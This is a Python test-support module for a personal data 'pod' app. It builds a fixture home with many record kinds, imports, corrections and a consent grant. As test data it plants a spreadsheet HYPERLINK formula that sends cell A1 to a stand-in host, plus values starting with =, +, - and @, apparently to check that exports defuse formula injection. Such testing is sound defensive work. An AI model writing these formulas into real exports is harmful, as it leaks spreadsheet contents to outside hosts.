"""A home with something of everything a pod can hold: every kind of record, series, corrections, rules, a grant."""

from __future__ import annotations

import contextlib
import io
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest
from msgspec.structs import replace

from pod_agent.agent import Agent
from pod_agent.cli.main import main
from pod_agent.importers.protocol import Confidence, ExportFile, Issue, Row, Sample
from pod_agent.ingest.pipeline import Ingest
from tests.support.consents import grant_for
from tests.support.households import SINGAPORE, RecordMaker
from tests.support.rows import BytesExport
from tests.support.whole_life import whole_life
from vocab.records import (
    Listen,
    Medium,
    Occurrences,
    Order,
    OrderLine,
    OrderStatus,
    PlaylistItem,
    Post,
    Provenance,
    Record,
    Search,
    Subject,
    Workout,
    record_iri,
)

__all__ = ["FORMULA", "Told", "fill_home", "grant_in", "plays", "pod_agent", "told_home"]

FORMULA = '=HYPERLINK("http://example.test/?"&A1,"kopi, ""c"" 咖啡")'
"""What a stranger may write into the text of a payment."""


@dataclass(frozen=True)
class Told:
    """An importer that yields the rows it is given, each on a line of its own."""

    rows: Sequence[Row]
    source: str = "made"
    name: ClassVar[str] = "told"
    endings: ClassVar[frozenset[str]] = frozenset({".told"})
    binary: ClassVar[bool] = False
    wrong_downloads: ClassVar[Mapping[str, str]] = {}

    def identify(self, export: ExportFile) -> Confidence:
        return Confidence(1.0, export.file)

    def extract(self, export: ExportFile) -> Iterator[Row]:
        for line, row in enumerate(self.rows, 1):
            if isinstance(row, Record):
                yield replace(row, provenance=Provenance(file=export.file, member=export.member, line=line))
            else:
                yield row


def plays(*titles: str) -> list[Record]:
    """Plays of these tracks in January 2026."""
    seen, out = Occurrences(), list[Record]()
    for number, title in enumerate(titles):
        at = datetime(2026, 1, 5, tzinfo=UTC) + timedelta(minutes=4 * number)
        iri = record_iri(Listen, "spotify", at, (title,), seen)
        out.append(
            Listen(
                iri=iri, source="spotify", at=at, played_ms=60_000, medium=Medium.MUSIC, title=title, artist="The Band"
            )
        )
    return out


def _rest() -> list[Record]:
    """One record of each kind that ``whole_life`` lacks, and a payment with a formula for a text."""
    seen, at = Occurrences(), datetime(2026, 2, 3, 7, 30, tzinfo=SINGAPORE)
    utc = at.astimezone(UTC)
    return [
        Search(iri=record_iri(Search, "youtube", utc, ("laksa",), seen), source="youtube", at=utc, text="+laksa"),
        Post(iri=record_iri(Post, "youtube", utc, ("so good",), seen), source="youtube", at=utc, text="so good"),
        PlaylistItem(
            iri=record_iri(PlaylistItem, "spotify", utc, ("Mix", "Tune"), seen),
            source="spotify",
            at=utc,
            playlist="Mix",
            subject=Subject.TRACK,
            title="Tune",
        ),
        Workout(
            iri=record_iri(Workout, "fitbit", at, ("Run",), seen), source="fitbit", at=at, activity="Run", seconds=1800
        ),
        RecordMaker().paid("2026-02-03", 3.5, "Kopi", "dining", description=FORMULA),
    ]


def _with_edition(record: Record) -> Record:
    """An order as an importer tells it: its edition is the place of its status."""
    if not isinstance(record, Order | OrderLine):
        return record
    return replace(record, edition=list(OrderStatus).index(record.status))


def _pulse() -> list[Row]:
    start = int(datetime(2026, 2, 3, 1, tzinfo=UTC).timestamp())
    return [
        Sample(line, "heart_rate", start + 60 * line, 60 + line % 9, "=Watch" if line % 2 else "Phone")
        for line in range(1, 301)
    ]


def told_home(home: Path, *files: tuple[str, Sequence[Row]]) -> None:
    """Make a home, and import these rows of these sources, each as a file, all in one import."""
    with Agent.create(home) as agent:
        pairs = [(Told(rows, source), BytesExport(b"x", file=f"{source}.told")) for source, rows in files]
        Ingest(agent.pod, home).run(pairs)
        agent.refresh()


def grant_in(home: Path) -> str:
    """Give a grant in this home; its identifier."""
    now = datetime.now(UTC).replace(microsecond=0)
    with Agent.open(home) as agent:
        grant = grant_for(created=now, until=now + timedelta(days=90))
        agent.consents.gate.give(grant)
        return grant.identifier


def pod_agent(home: Path, *arguments: str, status: int = 0) -> Any:
    """What a command prints with ``--json``, run in this process; it must end with this exit status."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), pytest.raises(SystemExit) as ended:
        main(["--home", str(home), *arguments, "--json"])
    assert ended.value.code == status, printed.getvalue()
    return json.loads(printed.getvalue())


def fill_home(home: Path) -> None:
    """Make a home with something of everything, by several imports."""
    life = [_with_edition(record) for record in (*whole_life(), *_rest())]
    money = [record for record in life if record.source in {"ocbc", "dbs"}]
    others = [record for record in life if record not in money]
    broken = Issue(line=99, code="bad_row", detail="no such day", raw="2026-02-30,Lost Tune")
    told_home(home, ("bank", money))
    told_home(home, ("spotify", [*plays("First", "Second"), broken]), ("life", others))
    told_home(home, ("watch", _pulse()))
    told_home(home, ("spotify", plays("First", "Second", "Third")))
    with Agent.open(home) as agent:
        gym = next(row for row in agent.index.transactions() if row.description == "IRON GYM")
        lamp = next(row for row in agent.index.transactions() if row.description == FORMULA)
        agent.correct(gym.iri, "health", merchant="-Iron Club")
        agent.correct(lamp.iri, "fees", merchant="@Kopi", only_this=True)
    grant_in(home)
